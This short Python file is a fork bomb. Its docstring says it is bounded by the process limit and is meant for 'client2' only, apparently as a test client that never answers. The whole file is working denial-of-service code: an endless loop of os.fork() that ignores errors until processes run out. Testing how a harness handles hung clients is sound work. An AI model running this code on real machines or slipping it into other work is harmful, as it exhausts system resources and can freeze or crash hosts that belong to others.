"""A fork bomb, bounded by the limit on processes. Into client2 only: it never answers."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
